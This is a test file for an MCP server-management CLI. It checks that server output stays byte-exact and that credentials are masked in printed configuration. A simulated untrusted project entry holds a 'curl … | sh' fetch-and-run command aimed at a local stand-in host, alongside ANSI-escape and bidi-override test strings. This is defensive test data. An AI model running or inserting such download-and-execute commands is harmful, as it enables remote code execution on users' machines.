import { type ChildProcess, spawn } from 'node:child_process';
import { closeSync, mkdirSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { FILE_TEXT, RESOURCE, STDERR_LINE, TOOLS } from '../fixtures/data-server-payload.mjs';
import {
  bin,
  type CliRun,
  processesWith,
  runCli,
  type Sandbox,
  sandbox,
  Tmux,
  waitFor,
} from './cli-harness.js';

/**
 * Issue finding 1, "Redaction rewrites data": every env or header value of 4+ characters
 * of every resolved entry (pending, rejected and disabled ones too) was replaced with `***`
 * wherever it appeared in anything the CLI printed — a file's text (`production`), tool
 * names (`get_file_***`), 49 `true`s in descriptions, the CLI's own "process ***ed", a
 * query value in a description — and `get` showed a project entry's `curl … | sh` as `***`.
 * Now a server's output is data (exact into a pipe, a file and `--json`; neutralized only
 * on a terminal) and secrets are hidden by position where configuration is printed.
 *
 * The servers: tests/fixtures/data-server.mjs (SDK v1, stdio) and
 * tests/fixtures/sdk-v1-http-server.mjs (SDK v1, Streamable HTTP), both real child processes.
 */
const dataServer = fileURLToPath(new URL('../fixtures/data-server.mjs', import.meta.url));
const httpServer = fileURLToPath(new URL('../fixtures/sdk-v1-http-server.mjs', import.meta.url));

const API_TOKEN = 'env-TOKEN-value-5150';
const HEADER = 'hdr-SECRET-value-8086';
const QUERY_KEY = 'query-KEY-value-6502';
const STAGE2 = 'curl -s http://127.0.0.1:18800/stage2 | sh';

let box: Sandbox;
let http: ChildProcess;
let port: number;

const userConfig = () => path.join(box.home, '.config', 'mcpkit', 'mcp.json');

beforeAll(async () => {
  box = sandbox('mcpkit-data-is-data-');
  http = spawn(process.execPath, [httpServer], {
    env: { ...process.env, PORT: '0' },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let out = '';
  http.stdout!.setEncoding('utf8').on('data', (t: string) => {
    out += t;
  });
  port = await waitFor(() => {
    const line = out.split('\n').find((l) => l.includes('"listening"'));
    return line ? (JSON.parse(line).port as number) : undefined;
  }, 'the HTTP server to listen');
  // The user's own entries: trusted, enabled (but for one).
  mkdirSync(path.dirname(userConfig()), { recursive: true });
  writeFileSync(
    userConfig(),
    JSON.stringify({
      mcpServers: {
        filesystem: {
          command: process.execPath,
          args: [dataServer],
          env: { NODE_ENV: 'production', API_TOKEN },
        },
        other: {
          command: process.execPath,
          args: [dataServer],
          env: { LOG_LEVEL: 'info', ALLOW_DANGEROUS: 'true' },
        },
        tiny: {
          command: process.execPath,
          args: ['-e', 'process.exit(7)'],
          env: { TINY_MODE: 'exit' },
        },
        remote: {
          type: 'http',
          url: `http://127.0.0.1:${port}/mcp`,
          headers: { Authorization: `Bearer ${HEADER}` },
        },
        keyed: { type: 'http', url: `http://127.0.0.1:${port}/mcp?api_key=${QUERY_KEY}&page=2` },
        // Disabled: its values (words of the file, of the CLI's messages) count for nothing.
        off: {
          command: process.execPath,
          args: ['-e', '0'],
          disabled: true,
          env: { SECRET_A: 'the end', SECRET_B: 'is disabled in' },
        },
      },
    }),
  );
  // A cloned repository's entries: pending approval.
  writeFileSync(
    path.join(box.cwd, '.mcp.json'),
    JSON.stringify({
      mcpServers: {
        stage: { command: 'sh', args: ['-c', STAGE2], env: { X: STAGE2 } },
        words: {
          command: 'sh',
          args: ['-c', 'exit 0'],
          env: { API_KEY: 'deploy to', PASSWORD: 'bidi', Z: 'read_text_file' },
        },
      },
    }),
  );
}, 60_000);

afterAll(async () => {
  http.kill('SIGTERM');
  await new Promise((resolve) =>
    http.exitCode !== null ? resolve(null) : http.once('exit', resolve),
  );
  box[Symbol.dispose]();
});

afterEach(() => {
  expect(processesWith(dataServer)).toEqual([]);
});

const cli = (...args: string[]): Promise<CliRun> => runCli(args, { env: box.env, cwd: box.cwd });

/** The CLI with its stdout a file, as `mcpkit … > file`: the file's bytes. */
async function toFile(
  ...args: string[]
): Promise<{ code: number | null; bytes: Buffer; stderr: string }> {
  const file = path.join(box.dir, `out-${Math.random().toString(36).slice(2)}.txt`);
  const fd = openSync(file, 'w');
  const child = spawn(process.execPath, [bin, ...args], {
    env: box.env,
    cwd: box.cwd,
    stdio: ['ignore', fd, 'pipe'],
  });
  closeSync(fd);
  let stderr = '';
  child.stderr!.setEncoding('utf8').on('data', (t: string) => {
    stderr += t;
  });
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  return { code, bytes: readFileSync(file), stderr };
}

describe("a server's output is data: written as sent, whatever the config's values", () => {
  it('call > file: the bytes the server sent, though NODE_ENV=production, LOG_LEVEL=info, ALLOW_DANGEROUS=true are config values', async () => {
    const r = await toFile('call', 'filesystem', 'read_text_file', 'path=/notes.txt');
    expect(r.code, r.stderr).toBe(0);
    expect(r.bytes.equals(Buffer.from(`${FILE_TEXT}\n`, 'utf8'))).toBe(true);
    expect(r.bytes.toString('utf8')).toContain('deploy to production now');
  });

  it('read > file: an MCP App resource keeps every `true`', async () => {
    const r = await toFile('read', 'filesystem', RESOURCE.uri);
    expect(r.code, r.stderr).toBe(0);
    expect(r.bytes.toString('utf8')).toContain(RESOURCE.text);
    expect(r.bytes.toString('utf8')).not.toContain('***');
  });

  it('--json: tools (names, descriptions, schemas), a call result and a resource are exactly what the server sent', async () => {
    const [tools, call, read] = await Promise.all([
      cli('--json', 'tools', '-s', 'filesystem'),
      cli('--json', 'call', 'filesystem', 'read_text_file', 'path=/notes.txt'),
      cli('--json', 'read', 'filesystem', RESOURCE.uri),
    ]);
    expect(tools.code, tools.stderr).toBe(0);
    const listed = JSON.parse(tools.stdout).servers[0].tools;
    expect(
      listed.map((t: (typeof TOOLS)[number]) => ({
        name: t.name,
        description: t.description,
        inputSchema: t.inputSchema,
      })),
    ).toEqual(TOOLS);
    expect(listed.map((t: { hostName: string }) => t.hostName)).toEqual([
      'mcp__filesystem__get_file_info',
      'mcp__filesystem__read_text_file',
    ]);
    // The query value in a description is not a secret of ours.
    expect(tools.stdout).toContain('selectedSnapshot=login_screen.png');
    expect(call.code, call.stderr).toBe(0);
    expect(JSON.parse(call.stdout).content).toEqual([{ type: 'text', text: FILE_TEXT }]);
    expect(read.code, read.stderr).toBe(0);
    expect(JSON.parse(read.stdout).contents).toEqual([RESOURCE]);
  });

  it('tool names and descriptions in the tools table are not rewritten (get_file_info stayed get_file_***)', async () => {
    const r = await cli('tools', '-s', 'filesystem');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/get_file_info\([^)]*\)\n\s+Returns info about a file in production/);
    expect(r.stdout).toContain('read_text_file');
    expect(r.stdout).not.toContain('***');
    const get = await cli('get', 'filesystem');
    expect(get.stdout).toContain('get_file_info  (mcp__filesystem__get_file_info)');
  });

  it("-v: a server's stderr line is shown as it wrote it (its URL and words included)", async () => {
    const r = await cli('-v', 'call', 'filesystem', 'get_file_info', 'path=/a');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`[filesystem] ${STDERR_LINE}\n`);
    expect(r.stdout).toBe('/a: true, production\n');
  });

  it("the CLI's own words stay whole: TINY_MODE=exit, and a disabled entry's 'is disabled in'", async () => {
    const r = await cli('call', 'tiny', 'anything');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('exited with code 7');
    const off = await cli('call', 'off', 'anything');
    expect(off.stderr).toContain('server "off" is disabled in');
    expect(off.stderr).not.toContain('***');
  });

  it("pending and disabled entries' values do not touch a trusted server's output or the CLI's warnings", async () => {
    // "deploy to", "bidi", "read_text_file", "the end" are values of entries that never run.
    const r = await toFile('call', 'filesystem', 'read_text_file', 'path=/x');
    expect(r.bytes.equals(Buffer.from(`${FILE_TEXT}\n`, 'utf8'))).toBe(true);
    const servers = await cli('servers');
    expect(servers.stdout + servers.stderr).not.toContain('***');
    expect(servers.stdout).toMatch(/stage\s+not started/);
  });
});

describe('the entry under review is shown whole but for its credentials', () => {
  it('get of a pending project entry shows the command it would run (its args were "***")', async () => {
    const [text, json] = await Promise.all([cli('get', 'stage'), cli('--json', 'get', 'stage')]);
    expect(text.stdout).toContain(JSON.stringify(['-c', STAGE2]));
    expect(JSON.parse(json.stdout).config).toMatchObject({
      command: 'sh',
      args: ['-c', STAGE2],
      env: { X: STAGE2 },
    });
  });

  it('approve prints the entry it approves, args whole and credentials hidden', async () => {
    using own = sandbox('mcpkit-data-approve-');
    writeFileSync(
      path.join(own.cwd, '.mcp.json'),
      JSON.stringify({
        mcpServers: {
          stage: {
            command: 'sh',
            args: ['-c', STAGE2],
            env: { X: STAGE2, NODE_ENV: 'production', API_TOKEN },
          },
          hdr: {
            type: 'http',
            url: 'http://127.0.0.1:9/mcp',
            headers: { Authorization: `Bearer ${HEADER}` },
          },
        },
      }),
    );
    const r = await runCli(['approve', 'stage', 'hdr'], { env: own.env, cwd: own.cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`"args":${JSON.stringify(['-c', STAGE2])}`);
    expect(r.stderr).toContain(
      `"env":${JSON.stringify({ X: STAGE2, NODE_ENV: 'production', API_TOKEN: '***' })}`,
    );
    expect(r.stderr).toContain('"headers":{"Authorization":"***"}');
    expect(r.stderr + r.stdout).not.toContain(API_TOKEN);
    expect(r.stderr + r.stdout).not.toContain(HEADER);
  });
});

describe('credentials are still hidden where configuration is printed, by position', () => {
  const noSecret = (r: { stdout: string; stderr: string }) => {
    expect(r.stdout + r.stderr).not.toContain(API_TOKEN);
    expect(r.stdout + r.stderr).not.toContain(HEADER);
    expect(r.stdout + r.stderr).not.toContain(QUERY_KEY);
  };

  it('list, get, servers: header values and API_TOKEN are ***, NODE_ENV and LOG_LEVEL shown', async () => {
    const [list, listJson, getFs, getRemote, servers, serversJson] = await Promise.all([
      cli('list'),
      cli('--json', 'list'),
      cli('--json', 'get', 'filesystem'),
      cli('get', 'remote'),
      cli('servers'),
      cli('--json', 'servers'),
    ]);
    for (const r of [list, listJson, getFs, getRemote, servers, serversJson]) noSecret(r);
    const entries = JSON.parse(listJson.stdout).servers;
    const of = (name: string) => entries.find((s: { name: string }) => s.name === name).config;
    expect(of('filesystem').env).toEqual({ NODE_ENV: 'production', API_TOKEN: '***' });
    expect(of('other').env).toEqual({ LOG_LEVEL: 'info', ALLOW_DANGEROUS: 'true' });
    expect(of('remote').headers).toEqual({ Authorization: '***' });
    expect(of('keyed').url).toBe(`http://127.0.0.1:${port}/mcp?api_key=***&page=2`);
    expect(JSON.parse(getFs.stdout).config.env).toEqual({
      NODE_ENV: 'production',
      API_TOKEN: '***',
    });
    expect(getRemote.stdout).toContain('"headers":{"Authorization":"***"}');
    expect(getRemote.stdout).toContain('state:    connected');
    expect(servers.stdout).toMatch(/remote\s+connected/);
  });

  it("doctor: a configured URL's credential hidden in its findings, a server's stderr as written", async () => {
    const r = await cli('--json', 'doctor', 'keyed', 'filesystem');
    noSecret(r);
    const report = JSON.parse(r.stdout);
    const findings = (name: string) =>
      report.servers.find((s: { name: string }) => s.name === name).findings as Array<{
        check: string;
        message: string;
      }>;
    expect(findings('keyed').find((f) => f.check === 'url')?.message).toContain(
      `http://127.0.0.1:${port}/mcp`,
    );
    expect(findings('filesystem').find((f) => f.check === 'stderr')?.message).toBe(STDERR_LINE);
  });

  it('import --dry-run hides API_TOKEN and shows NODE_ENV', async () => {
    const file = box.file('claude_desktop_config.json', {
      mcpServers: {
        imported: {
          command: 'srv',
          args: ['--mode', 'production'],
          env: { NODE_ENV: 'production', API_TOKEN },
        },
      },
    });
    const r = await cli('import', '--from', 'claude-desktop', '--dry-run', file);
    expect(r.code, r.stderr).toBe(0);
    noSecret(r);
    expect(r.stdout).toContain(
      `"args":["--mode","production"],"env":{"NODE_ENV":"production","API_TOKEN":"***"}`,
    );
  });

  it('--trace: messages as sent and received, and no header value or env credential in it', async () => {
    const file = path.join(box.dir, 'trace.jsonl');
    const [remote, local] = await Promise.all([
      cli('--trace', file, 'call', 'remote', 'ping'),
      cli('--trace', `${file}.2`, 'call', 'filesystem', 'read_text_file', 'path=/t'),
    ]);
    expect(remote.code, remote.stderr).toBe(0);
    expect(local.code, local.stderr).toBe(0);
    const text = readFileSync(file, 'utf8') + readFileSync(`${file}.2`, 'utf8');
    expect(text).not.toContain(HEADER);
    expect(text).not.toContain(API_TOKEN);
    const answer = readFileSync(`${file}.2`, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .find((l) => l.direction === 'receive' && l.message.result?.content);
    expect(answer.message.result.content[0].text).toBe(FILE_TEXT);
  });
});

describe('on a terminal', () => {
  it('a result has its control characters neutralized and nothing else changed', async () => {
    const tmux = new Tmux(box, box.env);
    try {
      tmux.start([process.execPath, bin, 'call', 'filesystem', 'read_text_file', 'path=/n']);
      const status = await waitFor(() => tmux.exitStatus(), 'the call to end');
      const screen = tmux.screen();
      expect(status, screen).toBe(0);
      expect(screen).toContain('deploy to production now');
      expect(screen).toContain('LOG_LEVEL is info; ALLOW_DANGEROUS is true; on error: exit');
      expect(screen).toContain(
        'see https://alice:pw-in-data@h.example/app?selectedSnapshot=login_screen.png&token=tok-in-data',
      );
      expect(screen).toContain(
        'colour \\x1b[31mred\\x1b[0m, bidi \\u202eevil\\u202c, a bare CR\\r, the end',
      );
      expect(screen).not.toContain('***');
    } finally {
      tmux.close();
    }
  });
});
